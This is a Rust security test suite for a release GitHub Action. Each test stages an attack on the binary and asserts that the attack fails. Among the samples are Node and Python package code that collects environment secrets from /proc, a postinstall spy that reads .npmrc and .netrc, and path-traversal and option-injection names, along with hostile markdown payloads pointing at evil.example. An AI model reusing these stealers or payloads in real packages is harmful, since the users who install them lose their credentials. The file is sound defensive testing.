//! Trust boundaries (issue #16, items 6, 7, 9, 10, 11, 14 and 15): secrets, registries and
//! distributions. Each test performs the attack against the built binary (or dist/resolve.sh)
//! and asserts the safe outcome.

use crate::support::collector::Collector;
use crate::support::harness::*;
use crate::support::packages::wheel;

use std::path::Path;

// ------------------------------------------------------------------ 6: secrets and /proc

/// Distinctive values, one per place a secret can come from.
const SECRETS: &[(&str, &str)] = &[
    ("INPUT_TOKEN", "ghp_procWALKinputTOKEN0123456789abc"),
    ("INPUT_REGISTRY-TOKEN", "npm_procWALKregistryTOKEN012345678"),
    ("NODE_AUTH_TOKEN", "procWALKnodeAUTHtoken-5f1e2d3c4b5a"),
    ("GITHUB_TOKEN", "ghs_procWALKgithubTOKEN0123456789ab"),
    ("PKG_GITHUB_COM_TOKEN", "procWALKpkgGITHUBcomTOKEN-0a1b2c3d"),
];

/// Node code run at import time: walks from its own process up through every ancestor and
/// sends what each one's `/proc/<pid>/environ` and `cmdline` hold to the collector (the sandbox
/// lets it write no file outside itself).
fn node_proc_walker(collector: &Collector) -> String {
    format!(
        r#"const fs = require('fs');
{sink}
let pid = 'self', out = '';
for (let i = 0; i < 64; i++) {{
  let status;
  try {{ status = fs.readFileSync(`/proc/${{pid}}/status`, 'utf8'); }} catch (e) {{ break; }}
  const name = (status.match(/^Name:\s*(.*)$/m) || [])[1];
  const ppid = Number((status.match(/^PPid:\s*(\d+)$/m) || [])[1] || 0);
  let env, cmdline;
  try {{ env = fs.readFileSync(`/proc/${{pid}}/environ`, 'latin1'); }} catch (e) {{ env = 'UNREADABLE ' + e.code; }}
  try {{ cmdline = fs.readFileSync(`/proc/${{pid}}/cmdline`, 'latin1'); }} catch (e) {{ cmdline = 'UNREADABLE ' + e.code; }}
  out += `=== ${{name}}\n${{env.split('\0').join('\n')}}\n--- cmdline\n${{cmdline.split('\0').join(' ')}}\n`;
  if (!ppid) break;
  pid = ppid;
}}
sink(out);
exports.hello = () => 'hi';
"#,
        sink = collector.node_sink()
    )
}

/// The same walk in Python, for a wheel's `__init__.py`.
fn python_proc_walker(collector: &Collector) -> String {
    format!(
        r#"import re
{sink}
pid, out = "self", ""
for _ in range(64):
    try:
        status = open(f"/proc/{{pid}}/status").read()
    except OSError:
        break
    name = re.search(r"^Name:\s*(.*)$", status, re.M).group(1)
    ppid = int(re.search(r"^PPid:\s*(\d+)$", status, re.M).group(1))
    try:
        env = open(f"/proc/{{pid}}/environ", "rb").read().decode("latin1")
    except OSError as e:
        env = f"UNREADABLE {{e}}"
    try:
        cmdline = open(f"/proc/{{pid}}/cmdline", "rb").read().decode("latin1")
    except OSError as e:
        cmdline = f"UNREADABLE {{e}}"
    out += f"=== {{name}}\n" + env.replace("\0", "\n") + "\n--- cmdline\n" + cmdline.replace("\0", " ") + "\n"
    if not ppid:
        break
    pid = ppid
sink(out)
def hello():
    return "hi"
"#,
        sink = collector.python_sink()
    )
}

fn npm_tarball(path: &Path, files: &[(&str, &str)]) {
    let gz = flate2::write::GzEncoder::new(
        std::fs::File::create(path).unwrap(),
        flate2::Compression::default(),
    );
    let mut tar = tar::Builder::new(gz);
    for (name, content) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        header.set_mtime(1_704_164_645);
        tar.append_data(&mut header, format!("package/{name}"), content.as_bytes())
            .unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap();
}

/// Runs smoke-install through action.yml's own step with a secret in every place one can come
/// from (today's action.yml hands `token` to every mode), over a package whose import-time code
/// reads its own and every ancestor's environment. No secret value is in what it found, and it
/// did reach the binary.
///
/// Twice: in the sandbox's namespaces (the default), where the walk ends at the sandbox's own
/// first process and never reaches the binary; and where namespaces are unavailable (as in a
/// container), where it reaches the binary, whose environment no longer holds the secrets.
fn assert_package_code_finds_no_secret(
    package: &str,
    expected_version: &str,
    work: &Path,
    collector: &Collector,
) {
    for confined in [true, false] {
        let mut gha = Gha::new()
            .input("mode", "smoke-install")
            .input("packages", package)
            .input("expected-version", expected_version)
            .cwd(work);
        if !confined {
            gha = gha.without_namespaces();
        }
        for (name, value) in SECRETS {
            gha = gha.env(name, value);
        }
        let before = collector.received().len();
        let run = gha.run_as_action_step();
        run.assert_code(0);
        assert_eq!(run.out("passed"), "true", "{}", run.describe());
        let found = collector.received()[before..].to_string();
        assert!(
            found.contains("=== "),
            "the package's code did not report (confined: {confined})"
        );
        let processes: Vec<&str> = found.lines().filter(|l| l.starts_with("=== ")).collect();
        // The binary (its process name is `exe` once it re-executed itself through /proc/self/exe;
        // its command line still names it), told from the sandbox helper by its environment.
        let binary = found.split("=== ").find(|section| {
            section.contains("GITHUB_OUTPUT=")
                && section
                    .split("--- cmdline\n")
                    .nth(1)
                    .is_some_and(|cmdline| cmdline.contains("release-action"))
        });
        if confined {
            assert!(
                binary.is_none(),
                "package code in the sandbox reached the binary's process: {processes:?}"
            );
        } else {
            assert!(
                binary.is_some(),
                "the walk did not reach the binary, so the test proves nothing ({processes:?})"
            );
        }
        for (name, value) in SECRETS {
            // Name the process whose environment or command line holds it (not the whole dump: it
            // holds the machine's environment above the test).
            let holders: Vec<&str> = found
                .split("=== ")
                .filter(|section| section.contains(value))
                .map(|section| section.lines().next().unwrap_or(""))
                .collect();
            assert!(
                holders.is_empty(),
                "{name} is readable from package code in {holders:?} (walked {processes:?}, confined: {confined})"
            );
        }
        for (name, value) in SECRETS {
            assert!(!run.stdout.contains(&format!("={value}")), "{name} printed");
        }
    }
}

#[test]
fn npm_package_code_finds_no_secret_in_any_ancestor_environment() {
    let work = tempfile::tempdir().unwrap();
    let collector = Collector::start();
    npm_tarball(
        &work.path().join("walker-1.0.0.tgz"),
        &[
            (
                "package.json",
                r#"{"name": "walker", "version": "1.0.0", "main": "index.js"}"#,
            ),
            ("index.js", &node_proc_walker(&collector)),
        ],
    );
    assert_package_code_finds_no_secret("walker-1.0.0.tgz", "1.0.0", work.path(), &collector);
}

#[test]
fn python_package_code_finds_no_secret_in_any_ancestor_environment() {
    let work = tempfile::tempdir().unwrap();
    let collector = Collector::start();
    wheel(
        work.path(),
        "walker",
        "1.0.0",
        &[("walker/__init__.py", &python_proc_walker(&collector))],
        &[],
    );
    assert_package_code_finds_no_secret(
        "walker-1.0.0-py3-none-any.whl",
        "1.0.0",
        work.path(),
        &collector,
    );
}

/// Secrets still work after the binary dropped them from its environment: version-guard reads
/// tags from the REST API with `token`, and policy-check's required-env still sees them.
#[test]
fn secrets_still_reach_the_code_that_needs_them() {
    let mut repo = Repo::new();
    repo.commit("one");
    let policy = repo.path().join(".github");
    std::fs::create_dir_all(&policy).unwrap();
    std::fs::write(
        policy.join("release-policy.yml"),
        "rules:\n  - id: creds\n    kind: required-env\n    severity: error\n    message: Set the credentials.\n    names: [NODE_AUTH_TOKEN]\n",
    )
    .unwrap();
    let run = Gha::new()
        .input("mode", "policy-check")
        .env("NODE_AUTH_TOKEN", "nodeAUTHtoken-present-1234567890")
        .env("RELEASE_ACTION_TODAY", "2025-06-01")
        .cwd(repo.path())
        .run_as_action_step();
    run.assert_code(0);
    assert_eq!(run.out("violations"), "0", "{}", run.describe());
}

/// action.yml hands each secret only to the modes that read it.
#[test]
fn action_yml_passes_each_secret_only_to_its_modes() {
    let text = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/action.yml")).unwrap();
    let action: yaml_serde::Value = yaml_serde::from_str(&text).unwrap();
    let step = action["runs"]["steps"]
        .as_sequence()
        .unwrap()
        .iter()
        .find(|s| s["id"].as_str() == Some("run"))
        .unwrap();
    let env = &step["env"];
    let expr = |name: &str| env[name].as_str().unwrap_or_default().replace(' ', "");
    assert_eq!(
        expr("INPUT_TOKEN"),
        "${{(inputs.mode=='version-guard'||inputs.mode=='publish-check'||inputs.mode=='smoke-install'||inputs.mode=='verify'||inputs.mode=='verify-bundle')&&inputs.token||''}}"
    );
    assert_eq!(
        expr("INPUT_REGISTRY-TOKEN"),
        "${{(inputs.mode=='smoke-install'||inputs.mode=='publish-check'||inputs.mode=='verify')&&inputs.registry-token||''}}"
    );
    let run = step["run"].as_str().unwrap().trim();
    assert!(
        run.starts_with("exec "),
        "the step's shell must exec the binary (else its environment keeps the secrets): {run}"
    );
}

// ------------------------------------------------------------------ 7: credentials in URLs

/// A TCP listener on 127.0.0.1 that counts the connections it gets (and answers none).
struct Listener {
    port: u16,
    connections: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl Listener {
    fn start() -> Listener {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counter = connections.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                drop(stream);
            }
        });
        Listener { port, connections }
    }

    fn count(&self) -> usize {
        self.connections.load(std::sync::atomic::Ordering::SeqCst)
    }
}

/// Inputs of one run: (name, value).
type Inputs<'a> = Vec<(&'a str, String)>;

#[test]
fn credentials_in_any_url_input_are_refused_before_anything_is_printed_or_sent() {
    const PASSWORD: &str = "hunter2-urlPASSWORD-9f8e7d";
    let server = Listener::start();
    let port = server.port;
    let with_creds = format!("http://deploy:{PASSWORD}@127.0.0.1:{port}");
    let plain = format!("http://127.0.0.1:{port}");
    let cases: Vec<(&str, Inputs)> = vec![
        (
            "packages",
            vec![("packages", format!("{with_creds}/sdk-1.0.0.tgz"))],
        ),
        (
            "packages",
            vec![(
                "packages",
                format!("local.tgz\noci://deploy:{PASSWORD}@127.0.0.1:{port}/org/sdk:1.0.0"),
            )],
        ),
        (
            "npm-registry",
            vec![
                ("packages", "npm:left-pad@1.3.0".into()),
                ("npm-registry", format!("{with_creds}/")),
            ],
        ),
        (
            "pypi-index",
            vec![
                ("packages", "pypi:six==1.16.0".into()),
                ("pypi-index", format!("{with_creds}/simple")),
            ],
        ),
        (
            "goproxy",
            vec![
                ("packages", "go:example.com/mod@v1.0.0".into()),
                ("goproxy", format!("{plain}|{with_creds}")),
            ],
        ),
        (
            "registry",
            vec![
                ("packages", format!("{plain}/sdk-1.0.0.tgz")),
                ("registry", format!("{with_creds}/")),
            ],
        ),
    ];
    let mut cases: Vec<(&str, &str, Inputs)> = cases
        .into_iter()
        .map(|(input, inputs)| ("smoke-install", input, inputs))
        .collect();
    for input in ["npm-registry", "pypi-index", "goproxy", "cargo-index"] {
        cases.push((
            "publish-check",
            input,
            vec![
                ("packages", "*.tgz\n*.whl".into()),
                (input, format!("{with_creds}/")),
            ],
        ));
    }
    for (mode, input, inputs) in cases {
        let mut gha = Gha::new()
            .input("mode", mode)
            .input("expected-version", "1.0.0")
            .input("retries", "0")
            .input("timeout", "2");
        for (name, value) in &inputs {
            gha = gha.input(name, value);
        }
        let run = gha.run();
        run.assert_code(2);
        let errors = run.commands("error");
        assert!(
            errors
                .iter()
                .any(|e| e.contains(&format!("input `{input}`")) && e.contains("credentials")),
            "{input}: the error does not name the input\n{}",
            run.describe()
        );
        for (what, text) in [
            ("stdout", &run.stdout),
            ("stderr", &run.stderr),
            ("the summary", &run.summary),
            ("GITHUB_OUTPUT", &run.output_text),
        ] {
            assert!(
                !text.contains(PASSWORD),
                "{input}: the password is in {what}"
            );
        }
        assert_eq!(server.count(), 0, "{input}: a connection was made");
    }
}

// ------------------------------------------------------------------ 9: Go module paths

/// Every directory under `root` (symlinks not followed).
fn directories(root: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
            if entry.file_type().is_ok_and(|t| t.is_dir()) {
                out.push(entry.path());
                stack.push(entry.path());
            }
        }
    }
    out
}

#[test]
fn a_go_module_path_that_climbs_out_is_refused_and_nothing_is_written_outside() {
    let work = tempfile::tempdir().unwrap();
    // RUNNER_TEMP deep inside the temp dir: a path that climbs out of the sandbox still lands
    // where the test can see it.
    let runner_temp = work.path().join("a/b/c/runner-temp");
    std::fs::create_dir_all(&runner_temp).unwrap();
    let absolute = work.path().join("absolute-target");
    for module in [
        "../../../outside".to_string(),
        "../../../../../outside".to_string(),
        absolute.display().to_string(),
    ] {
        let root = work.path().join("gosdk");
        std::fs::create_dir_all(&root).unwrap();
        std::fs::write(root.join("go.mod"), format!("module {module}\n\ngo 1.19\n")).unwrap();
        std::fs::write(
            root.join("sdk.go"),
            "package sdk\n\nfunc Hello() string { return \"hi\" }\n",
        )
        .unwrap();
        let run = Gha::new()
            .input("mode", "smoke-install")
            .input("packages", "gosdk")
            .input("expected-version", "v1.0.0")
            .env("RUNNER_TEMP", runner_temp.to_str().unwrap())
            .cwd(work.path())
            .run();
        run.assert_code(2);
        assert!(
            run.commands("error")
                .iter()
                .any(|e| e.contains("go.mod line 1") && e.contains("not a valid module path")),
            "{module}: the error does not name go.mod and the rule\n{}",
            run.describe()
        );
        let escaped: Vec<_> = directories(work.path())
            .into_iter()
            .filter(|d| !d.starts_with(&runner_temp) && !d.starts_with(&root))
            .filter(|d| d.file_name().is_some_and(|n| n == "@v" || n == "outside"))
            .collect();
        assert!(escaped.is_empty(), "{module}: written outside: {escaped:?}");
        assert!(!absolute.exists(), "{module}: wrote to the absolute path");
    }
}

// ------------------------------------------------------------------ 15: names and `--`

/// A wheel whose distribution name starts with `-` is refused by name (PEP 508), and pip never
/// sees it as an option (`-rh…` would be `-r h…`, a requirements file).
#[test]
fn a_wheel_named_like_an_option_is_refused_by_name_not_run_as_an_option() {
    let work = tempfile::tempdir().unwrap();
    wheel(
        work.path(),
        "-rh",
        "1.0.0",
        &[("rh/__init__.py", "def hello():\n    return 'hi'\n")],
        &[],
    );
    let run = Gha::new()
        .input("mode", "smoke-install")
        .input("packages", "*.whl")
        .input("expected-version", "1.0.0")
        .cwd(work.path())
        .run();
    run.assert_code(1);
    let results = run.out("results");
    assert!(
        results.contains("not a PEP 508 distribution name"),
        "the name is not refused\n{}",
        run.describe()
    );
    assert!(
        !results.contains("requirements file") && !run.stdout.contains("pip install -rh"),
        "pip saw the name\n{}",
        run.describe()
    );
}

/// An npm package named `-rh` is refused by name (npm's rules) before any tool sees it; the
/// load scripts also pass specifiers after `--`, so node could never take one for its own option.
#[test]
fn an_npm_package_named_like_an_option_is_refused_by_name() {
    let work = tempfile::tempdir().unwrap();
    npm_tarball(
        &work.path().join("rh-1.0.0.tgz"),
        &[
            (
                "package.json",
                r#"{"name": "-rh", "version": "1.0.0", "main": "index.js"}"#,
            ),
            ("index.js", "exports.hello = () => 'hi';\n"),
        ],
    );
    let run = Gha::new()
        .input("mode", "smoke-install")
        .input("packages", "rh-1.0.0.tgz")
        .input("expected-version", "1.0.0")
        .cwd(work.path())
        .run();
    run.assert_code(1);
    let results = run.out("results");
    assert!(
        results.contains("not a valid npm package name"),
        "the name is not refused\n{}",
        run.describe()
    );
    assert!(
        results.contains("not run: the tarball failed inspection"),
        "a tool ran with the name\n{}",
        run.describe()
    );
}

/// `npm:`, `pypi:` and `go:` entries are checked by name before anything is fetched.
#[test]
fn remote_entries_with_invalid_names_are_usage_errors() {
    let server = Listener::start();
    let registry = format!("http://127.0.0.1:{}", server.port);
    for (entry, why) in [
        ("npm:../../etc@1.0.0", "npm package name"),
        ("pypi:-rrequirements.txt==1.0.0", "PEP 508"),
        ("go:../../outside@v1.0.0", "not a Go module path"),
    ] {
        let run = Gha::new()
            .input("mode", "smoke-install")
            .input("packages", entry)
            .input("expected-version", "1.0.0")
            .input("npm-registry", &registry)
            .input("pypi-index", &registry)
            .input("goproxy", &registry)
            .input("retries", "0")
            .input("timeout", "2")
            .run();
        run.assert_code(2);
        assert!(
            run.commands("error").iter().any(|e| e.contains(why)),
            "{entry}: {why} not said\n{}",
            run.describe()
        );
    }
    assert_eq!(server.count(), 0, "a request was sent");
}

// ------------------------------------------------------------------ 14: hostile OCI answers

/// smoke-install of `oci://<registry>/org/sdk@<digest of manifest>` where the registry answers
/// `manifest` (a scripted stand-in speaking the distribution API's paths).
fn smoke_oci_manifest(
    manifest: &serde_json::Value,
) -> (Run, crate::support::fault_server::FaultServer) {
    use crate::support::fault_server::{FaultServer, Reply};
    use sha2::Digest as _;
    let registry = FaultServer::start();
    let body = serde_json::to_vec(manifest).unwrap();
    let digest = format!("sha256:{}", hex::encode(sha2::Sha256::digest(&body)));
    let reply = Reply::with_header(
        200,
        "content-type",
        "application/vnd.oci.image.manifest.v1+json",
        body,
    );
    registry.script(
        &format!("/v2/org/sdk/manifests/{digest}"),
        vec![reply.clone(), reply],
    );
    let host = registry.base().trim_start_matches("http://").to_string();
    let run = Gha::new()
        .input("mode", "smoke-install")
        .input("packages", &format!("oci://{host}/org/sdk@{digest}"))
        .input("expected-version", "1.0.0")
        .input("retries", "0")
        .input("timeout", "5")
        .run();
    (run, registry)
}

fn layer(digest: &str, title: Option<&str>) -> serde_json::Value {
    let mut layer = serde_json::json!({
        "mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
        "digest": digest,
        "size": 10
    });
    if let Some(title) = title {
        layer["annotations"] = serde_json::json!({ "org.opencontainers.image.title": title });
    }
    layer
}

fn manifest_with(layers: Vec<serde_json::Value>) -> serde_json::Value {
    serde_json::json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {
            "mediaType": "application/vnd.oci.empty.v1+json",
            "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a",
            "size": 2
        },
        "layers": layers
    })
}

#[test]
fn a_malformed_layer_digest_is_exit_2_naming_the_registry_and_field_not_a_panic() {
    for digest in [
        "sha256:abc",
        "sha256:",
        "md5:0123",
        "sha256:../../../v2/other/blobs/x",
    ] {
        let (run, registry) = smoke_oci_manifest(&manifest_with(vec![layer(digest, None)]));
        run.assert_code(2);
        let host = registry.base().trim_start_matches("http://").to_string();
        assert!(
            !run.stdout.contains("internal error"),
            "{digest}: the binary panicked\n{}",
            run.describe()
        );
        assert!(
            run.commands("error")
                .iter()
                .any(|e| e.contains(&format!("registry {host}")) && e.contains("layers[0].digest")),
            "{digest}: the error names neither the registry nor the field\n{}",
            run.describe()
        );
        let blob_requests = registry
            .all_requests()
            .into_iter()
            .filter(|r| !r.path.contains("/manifests/"))
            .count();
        assert_eq!(blob_requests, 0, "{digest}: a blob was requested");
    }
}

#[test]
fn a_percent_before_a_multibyte_character_in_a_title_is_not_a_panic() {
    let digest = format!("sha256:{}", "ab".repeat(32));
    let (run, registry) =
        smoke_oci_manifest(&manifest_with(vec![layer(&digest, Some("sdk%1é.tgz"))]));
    assert!(
        !run.stdout.contains("internal error"),
        "the binary panicked\n{}",
        run.describe()
    );
    // The title became a file name and the blob was asked for (it is missing: a clear failure).
    assert_eq!(
        registry.count(&format!("/v2/org/sdk/blobs/{digest}")),
        1,
        "{}",
        run.describe()
    );
    assert_ne!(run.code, 0);
}

// ------------------------------------------------------------------ 11: the sticky comment

const REPOSITORY: &str = "acme/sdk";
const API_TOKEN: &str = "ghs_trust_comment_token_123";
const MARKER: &str = "<!-- release-action:version-guard tag-prefix=v -->";

/// A failing pull-request run of version-guard (base version below the latest release) in a repo
/// whose package.json is the pull request's.
fn failing_pr_run(api: &crate::support::github_api::GitHubApi, package_json: &str) -> Run {
    let mut repo = Repo::new();
    repo.commit("one");
    repo.tag("v0.11.0");
    std::fs::write(repo.path().join("package.json"), package_json).unwrap();
    repo.commit("two");
    let gha = Gha::new();
    let event = gha.path().join("event.json");
    std::fs::write(
        &event,
        serde_json::json!({"number": 7, "pull_request": {"number": 7, "head": {"sha": repo.head(), "ref": "feature"}}})
            .to_string(),
    )
    .unwrap();
    gha.input("mode", "version-guard")
        .input("token", API_TOKEN)
        .input("version-file", "package.json")
        .env("GITHUB_REF", "refs/pull/7/merge")
        .env("GITHUB_REPOSITORY", REPOSITORY)
        .env("GITHUB_API_URL", &api.url())
        .env("GITHUB_EVENT_NAME", "pull_request")
        .env("GITHUB_EVENT_PATH", event.to_str().unwrap())
        .cwd(repo.path())
        .run()
}

#[test]
fn a_strangers_comment_carrying_the_marker_is_never_edited() {
    use crate::support::github_api::{Comment, GitHubApi, ACTIONS_BOT};
    for token_user in [None, Some("release-bot")] {
        let api = GitHubApi::start(REPOSITORY, API_TOKEN);
        let planted = format!("{MARKER}\nplease click [here](https://evil.example)");
        api.with(|s| {
            s.token_user = token_user.map(str::to_string);
            s.comments.push(Comment {
                id: 42,
                issue: 7,
                body: planted.clone(),
                author: "mallory".into(),
            });
        });
        let run = failing_pr_run(&api, r#"{"name": "sdk", "version": "0.10.0"}"#);
        run.assert_code(1);
        let comments = api.comments();
        let planted_now = comments.iter().find(|c| c.id == 42).unwrap();
        assert_eq!(
            planted_now.body, planted,
            "the stranger's comment was edited"
        );
        assert!(
            api.requests()
                .iter()
                .all(|r| !(r.method == "PATCH" && r.path().ends_with("/comments/42"))),
            "PATCH sent to the stranger's comment"
        );
        let ours: Vec<&Comment> = comments.iter().filter(|c| c.id != 42).collect();
        assert_eq!(ours.len(), 1, "{}", run.describe());
        assert_eq!(ours[0].author, token_user.unwrap_or(ACTIONS_BOT));
        assert!(ours[0].body.contains(MARKER));

        // The next run finds its own comment (and still not the stranger's).
        failing_pr_run(&api, r#"{"name": "sdk", "version": "0.10.1"}"#).assert_code(1);
        let comments = api.comments();
        assert_eq!(comments.len(), 2, "a second comment was added");
        assert_eq!(comments.iter().find(|c| c.id == 42).unwrap().body, planted);
    }
}

#[test]
fn untrusted_text_in_the_comment_cannot_render_links_images_or_html() {
    use crate::support::github_api::GitHubApi;
    let api = GitHubApi::start(REPOSITORY, API_TOKEN);
    let hostile = r#"0.1.0-[click](https://evil.example/a)![x](https://evil.example/i.png)<img src=https://evil.example/p.png>`code`"#;
    let run = failing_pr_run(
        &api,
        &serde_json::json!({"name": "sdk", "version": hostile}).to_string(),
    );
    assert_ne!(run.code, 0, "{}", run.describe());
    let comments = api.comments();
    assert_eq!(comments.len(), 1, "{}", run.describe());
    let body = &comments[0].body;
    assert!(
        body.contains("evil"),
        "the comment does not quote the value, so the test proves nothing:\n{body}"
    );
    // What is left once every backslash-escaped character is dropped: the markup that renders.
    let mut rendered = String::new();
    let mut chars = body.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            chars.next();
        } else {
            rendered.push(c);
        }
    }
    // A code span (`code`) may render: it is inert (nothing inside one is a link, an image or
    // HTML), and the comment renders inline code as code (issue #24).
    for raw in ["](", "<img", "![", "https://evil"] {
        assert!(
            !rendered.contains(raw),
            "{raw:?} reached the comment unescaped:\n{body}"
        );
    }
    assert!(body.contains("&lt;img"), "{body}");
}

// ------------------------------------------------------------------ 10: dist/resolve.sh

#[test]
fn a_planted_binary_with_a_forged_marker_is_not_run() {
    use crate::resolve_script::*;
    let server = Server::start();
    let (url, sha) = published_tar_gz(&server);
    let runner = Runner::new("Linux", "X64");
    let manifest = runner.manifest(&url, Some(&sha));
    // What an attacker with write access to a self-hosted runner's tool cache plants: a binary
    // and a marker naming the (public) pinned asset digest and the planted binary's own hash.
    let version_dir = runner
        .tool_cache()
        .join(format!("release-action/{VERSION}"));
    std::fs::create_dir_all(version_dir.join("x64")).unwrap();
    let planted = b"#!/bin/sh\necho planted\n";
    let bin = version_dir.join("x64/release-action");
    std::fs::write(&bin, planted).unwrap();
    std::process::Command::new("chmod")
        .args(["755", bin.to_str().unwrap()])
        .status()
        .unwrap();
    std::fs::write(
        version_dir.join("x64.complete"),
        format!(
            "asset_sha256={sha}\nbinary_sha256={}\nurl={url}\n",
            sha256_hex(planted)
        ),
    )
    .unwrap();
    let resolved = runner.resolve(&manifest);
    assert_eq!(resolved.code, 0, "{}", resolved.describe());
    assert_eq!(
        server.requests().len(),
        1,
        "the planted copy was taken as a cache hit\n{}",
        resolved.describe()
    );
    assert_eq!(run_binary(&resolved.path()), FAKE_OUTPUT);
}

#[test]
fn a_downloaded_binary_that_does_not_match_its_pin_is_refused() {
    use crate::resolve_script::*;
    let server = Server::start();
    let (url, sha) = published_tar_gz(&server);
    let runner = Runner::new("Linux", "X64");
    // The asset matches its pin, but the binary inside is not the one the manifest pins.
    let manifest = runner.manifest_pinning(&url, Some(&sha), Some(&sha256_hex(b"another binary")));
    let resolved = runner.resolve(&manifest);
    assert_eq!(resolved.code, 1, "{}", resolved.describe());
    assert!(
        resolved.errors()[0].contains("Checksum mismatch"),
        "{}",
        resolved.describe()
    );
    assert!(!runner
        .tool_cache()
        .join(format!("release-action/{VERSION}/x64/release-action"))
        .exists());
}

#[test]
fn twelve_concurrent_resolves_on_one_tool_cache_all_succeed() {
    use crate::resolve_script::*;
    let server = Server::start();
    let (url, sha) = published_tar_gz(&server);
    let shared = tempfile::tempdir().unwrap();
    let tool_cache = shared.path().to_str().unwrap().to_string();
    let runners: Vec<Runner> = (0..12)
        .map(|_| Runner::new("Linux", "X64").env("RUNNER_TOOL_CACHE", &tool_cache))
        .collect();
    let results: Vec<(i32, String, String)> = std::thread::scope(|scope| {
        let handles: Vec<_> = runners
            .iter()
            .map(|runner| {
                let manifest = runner.manifest(&url, Some(&sha));
                scope.spawn(move || {
                    let resolved = runner.resolve(&manifest);
                    let output = if resolved.code == 0 {
                        run_binary(&resolved.path())
                    } else {
                        String::new()
                    };
                    (resolved.code, output, resolved.describe())
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    for (code, output, describe) in &results {
        assert_eq!(*code, 0, "a concurrent resolve failed\n{describe}");
        assert_eq!(output, FAKE_OUTPUT);
    }
    // Nothing of the per-run directories is left.
    let leftovers: Vec<_> =
        std::fs::read_dir(shared.path().join(format!("release-action/{VERSION}")))
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(".tmp"))
            .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

// ------------------------------------------------------------------ 6: install scripts

/// A dependency's `postinstall`: the ancestor walk of [`node_proc_walker`], then every npmrc and
/// netrc it can reach (the sandbox's HOME, and each directory from its own up to `/`).
fn node_install_spy(collector: &Collector) -> String {
    format!(
        r#"{walker}
const os = require('os'), path = require('path');
const files = [path.join(os.homedir(), '.npmrc'), path.join(os.homedir(), '.netrc')];
for (let dir = process.cwd(); ; dir = path.dirname(dir)) {{
  files.push(path.join(dir, '.npmrc'));
  if (dir === path.dirname(dir)) break;
}}
if (process.env.INIT_CWD) files.push(path.join(process.env.INIT_CWD, '.npmrc'));
let read = '';
for (const file of files) {{
  try {{ read += `=== file ${{file}}\n` + fs.readFileSync(file, 'latin1') + '\n'; }} catch (e) {{}}
}}
sink('=== spy ran\n' + read);
"#,
        walker = node_proc_walker(collector),
    )
}

/// A package's install scripts run with the registry credential gone: smoke-install installs
/// with `--ignore-scripts` while the credential is in the sandbox, removes it, and then runs the
/// scripts (`npm rebuild`). The spy is a dependency served by a private Verdaccio; under npm
/// its `postinstall` must run (it reports to the collector), and nothing it can read holds the
/// token.
/// (pnpm 10 runs no dependency scripts unless the consumer allows them; the same split applies.)
#[test]
fn install_scripts_of_a_private_dependency_never_see_the_registry_token() {
    let server = crate::support::servers::verdaccio_requiring_auth();
    let token = crate::support::servers::verdaccio_user(&server, "ci-reader", "s3cret-pass");
    let work = tempfile::tempdir().unwrap();
    let spy_dir = work.path().join("spy");
    std::fs::create_dir_all(&spy_dir).unwrap();
    let collector = Collector::start();
    for manager in ["npm", "pnpm"] {
        let version = if manager == "npm" { "1.0.0" } else { "1.0.1" };
        std::fs::write(
            spy_dir.join("package.json"),
            format!(
                r#"{{"name": "@private/spy", "version": "{version}", "main": "index.js", "license": "MIT", "scripts": {{"postinstall": "node spy.js"}}}}"#
            ),
        )
        .unwrap();
        std::fs::write(spy_dir.join("index.js"), "exports.ok = true;\n").unwrap();
        std::fs::write(spy_dir.join("spy.js"), node_install_spy(&collector)).unwrap();
        crate::support::servers::npm_publish_path(&server, &token, &spy_dir, None);
        let app = format!("app-{manager}.tgz");
        npm_tarball(
            &work.path().join(&app),
            &[
                (
                    "package.json",
                    &format!(
                        r#"{{"name": "@acme/app", "version": "1.2.3", "main": "index.js", "dependencies": {{"@private/spy": "{version}"}}}}"#
                    ),
                ),
                ("index.js", "module.exports = require('@private/spy');\n"),
            ],
        );
        let before = collector.received().len();
        let run = Gha::new()
            .input("mode", "smoke-install")
            .input("packages", &app)
            .input("expected-version", "1.2.3")
            .input("package-manager", manager)
            .input("registry", &format!("{}/", server.base()))
            .input("registry-token", &token)
            .cwd(work.path())
            .run();
        run.assert_code(0);
        assert_eq!(run.out("passed"), "true", "{manager}: {}", run.describe());
        let found = collector.received()[before..].to_string();
        if !found.contains("=== spy ran") {
            assert_eq!(
                manager, "pnpm",
                "{manager}: the postinstall script did not run"
            );
            continue;
        }
        assert!(
            found.contains("=== file "),
            "{manager}: the spy read no file"
        );
        let holders: Vec<&str> = found
            .split("=== ")
            .filter(|section| section.contains(&token))
            .map(|section| section.lines().next().unwrap_or(""))
            .collect();
        assert!(
            holders.is_empty(),
            "{manager}: the registry token is readable by install scripts in {holders:?}"
        );
    }

    // Scripts that fail after the split still fail the install, named as such.
    std::fs::write(
        spy_dir.join("package.json"),
        r#"{"name": "@private/spy", "version": "2.0.0", "main": "index.js", "license": "MIT", "scripts": {"postinstall": "node -e 'process.exit(3)'"}}"#,
    )
    .unwrap();
    crate::support::servers::npm_publish_path(&server, &token, &spy_dir, None);
    npm_tarball(
        &work.path().join("app-broken.tgz"),
        &[
            (
                "package.json",
                r#"{"name": "@acme/app", "version": "1.2.3", "main": "index.js", "dependencies": {"@private/spy": "2.0.0"}}"#,
